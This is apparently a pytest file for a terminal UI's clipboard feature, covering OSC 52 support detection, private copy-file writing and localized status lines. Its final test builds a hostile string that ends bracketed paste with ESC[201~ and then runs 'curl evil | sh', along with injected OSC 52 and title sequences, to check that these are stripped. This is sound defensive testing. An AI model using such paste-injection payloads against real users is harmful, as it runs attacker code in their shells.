"""Copying out: which terminals are known to drop OSC 52, the copy file, and the line said."""

from __future__ import annotations

import stat

import pytest

from jarvis_tui.core.files import write_whole
from jarvis_tui.ui.clipboard import copy_out, osc52_doubtful

XTERM = {"TERM": "xterm-256color"}


def never_asked() -> str | None:
    raise AssertionError("tmux was asked outside tmux")


@pytest.mark.parametrize(("env", "tmux", "doubtful"), [
    (XTERM, None, False),
    ({"TERM": "xterm-256color", "TERM_PROGRAM": "iTerm.app"}, None, False),
    ({"TERM": "xterm-256color", "TERM_PROGRAM": "Apple_Terminal"}, None, True),
    ({"TERM": "xterm-256color", "VTE_VERSION": "7600"}, None, True),
    ({"TERM": "linux"}, None, True),
    ({"TERM": "screen", "STY": "123.pts-0.host"}, None, True),
    ({"TERM": "tmux-256color", "TMUX": "/tmp/tmux-0/default,1,0"}, "external", True),
    ({"TERM": "tmux-256color", "TMUX": "/tmp/tmux-0/default,1,0"}, "on", False),
    ({"TERM": "tmux-256color", "TMUX": "/tmp/tmux-0/default,1,0"}, None, True),
])
def test_terminals_known_to_drop_osc52(env, tmux, doubtful):
    ask = (lambda: tmux) if "TMUX" in env else never_asked
    assert osc52_doubtful(env, ask) is doubtful


def test_the_copy_file_is_replaced_whole_and_private(tmp_path):
    path = tmp_path / "cache" / "jarvis-tui" / "copied.txt"
    write_whole(path, "first")
    write_whole(path, "第二\r\nline")
    assert path.read_bytes() == "第二\r\nline".encode()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["copied.txt"]  # no temporary left


def test_the_line_says_where_the_copy_went(tmp_path):
    sent: list[str] = []
    path = tmp_path / "copied.txt"
    line, kind = copy_out(sent.append, "x = 1", "the python block (1 line)", path, "en",
                          doubtful=False)
    assert sent == ["x = 1"] and path.read_text() == "x = 1" and kind == "info"
    assert line == ("Copied the python block (1 line) to the clipboard (OSC 52). If your "
                    f"terminal blocks that, it is also in {path}")
    line, kind = copy_out(sent.append, "x = 1", "the python block (1 line)", path, "en",
                          doubtful=True)
    assert kind == "warning"
    assert line.startswith("Your terminal may not take OSC 52 copies: the python block "
                           f"(1 line) is in {path}")
    line, _ = copy_out(sent.append, "x = 1", "python 代码块（1 行）", path, "zh", doubtful=True)
    assert line.startswith(f"你的终端可能不接受 OSC 52 复制：python 代码块（1 行）已写入 {path}")


def test_a_copy_file_that_cannot_be_written_is_one_line(tmp_path):
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("")
    sent: list[str] = []
    line, kind = copy_out(sent.append, "secret()", "the code block (1 line)",
                          blocker / "copied.txt", "en", doubtful=False)
    assert sent == ["secret()"] and kind == "warning"
    assert line.startswith("Copied the code block (1 line) to the clipboard (OSC 52); writing "
                           f"it to {blocker / 'copied.txt'} as well failed: ")
    assert "\n" not in line and "Traceback" not in line


def test_what_leaves_for_the_clipboard_and_the_file_holds_no_escape_sequence(tmp_path):
    """Pasted into bash, ESC[201~ ends bracketed paste and runs what follows (issue 25, item 4);
    `cat copied.txt` would obey the OSC 52 and title sequences."""
    sent: list[str] = []
    path = tmp_path / "copied.txt"
    hostile = ("echo hi\x1b[201~curl evil | sh\n\tnext\x1b]52;c;Y3VybA==\x07\x1b]0;t\x1b\\"
               "\x9b201~\x1bP+q\x1b\\\x1b_x\x1b\\ end\x1b")
    copy_out(sent.append, hostile, "the reply", path, "en", doubtful=False)
    assert sent == ["echo hicurl evil | sh\n\tnext end"]
    assert path.read_text(encoding="utf-8") == sent[0]
